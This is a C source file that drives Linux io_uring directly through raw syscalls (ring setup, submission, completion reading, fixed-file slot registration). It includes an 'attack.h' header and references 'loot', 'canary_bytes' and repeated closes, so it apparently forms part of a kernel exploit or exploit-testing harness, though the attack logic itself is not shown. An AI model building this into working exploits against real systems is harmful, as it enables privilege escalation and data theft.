/* SPDX-License-Identifier: Apache-2.0 */
/* A ring of io_uring(7), without liburing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"

int set_up_ring(struct ring *ring, unsigned int flags)
{
	const struct io_uring_params *params = &ring->params;
	int rw = PROT_READ | PROT_WRITE;

	memset(ring, 0, sizeof(*ring));
	ring->params.flags = flags;
	ring->fd = syscall(SYS_io_uring_setup, RING_ENTRIES, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->submissions = mmap(NULL, params->sq_off.array + params->sq_entries * sizeof(__u32), rw,
				 MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	ring->completions = mmap(NULL,
				 params->cq_off.cqes +
					 params->cq_entries * sizeof(struct io_uring_cqe),
				 rw, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
	ring->entries = mmap(NULL, params->sq_entries * sizeof(struct io_uring_sqe), rw, MAP_SHARED,
			     ring->fd, IORING_OFF_SQES);
	return ring->submissions == MAP_FAILED || ring->completions == MAP_FAILED ||
			       ring->entries == MAP_FAILED ?
		       -1 :
		       0;
}

int submit(struct ring *ring, const struct io_uring_sqe *entries, int count, int answers)
{
	unsigned int *tail = (void *)(ring->submissions + ring->params.sq_off.tail);
	unsigned int *array = (void *)(ring->submissions + ring->params.sq_off.array);
	unsigned int flags = IORING_ENTER_GETEVENTS;

	for (int i = 0; i < count; i++) {
		unsigned int index = (*tail + i) & (ring->params.sq_entries - 1);

		ring->entries[index] = entries[i];
		array[index] = index;
	}
	__atomic_store_n(tail, *tail + count, __ATOMIC_RELEASE);
	if (ring->params.flags & IORING_SETUP_SQPOLL)
		flags |= IORING_ENTER_SQ_WAKEUP;
	return syscall(SYS_io_uring_enter, ring->fd, count, answers, flags, NULL, 0) < 0 ? -1 : 0;
}

int next_descriptor(void)
{
	int fd = dup(0);

	close_again(fd);
	return fd;
}

int next_answer(struct ring *ring)
{
	unsigned int *head = (void *)(ring->completions + ring->params.cq_off.head);
	struct io_uring_cqe *answers = (void *)(ring->completions + ring->params.cq_off.cqes);
	int answer = answers[*head & (ring->params.cq_entries - 1)].res;

	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	errno = answer < 0 ? -answer : 0;
	return answer < 0 ? -1 : answer;
}

int answer_to(const struct ring *ring, unsigned long user_data)
{
	const unsigned int *head = (void *)(ring->completions + ring->params.cq_off.head);
	const unsigned int *tail = (void *)(ring->completions + ring->params.cq_off.tail);
	struct io_uring_cqe *answers = (void *)(ring->completions + ring->params.cq_off.cqes);
	unsigned int end = __atomic_load_n(tail, __ATOMIC_ACQUIRE);

	for (unsigned int i = *head; i != end; i++) {
		struct io_uring_cqe *answer = answers + (i & (ring->params.cq_entries - 1));

		if (answer->user_data == user_data)
			return answer->res;
	}
	return 0;
}

int have_done(struct ring *ring, const struct io_uring_sqe *entry)
{
	return submit(ring, entry, 1, 1) ? -1 : next_answer(ring);
}

int make_slot(struct ring *ring)
{
	int none = -1;

	return syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_FILES, &none, 1);
}

int open_into_slot(struct ring *ring, const char *path)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .file_index = 1 };

	entry.addr = (unsigned long)path;
	return make_slot(ring) ? -1 : have_done(ring, &entry);
}

long answer_of(const struct ring *ring, long length)
{
	close_again(ring->fd);
	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(loot, length);
}
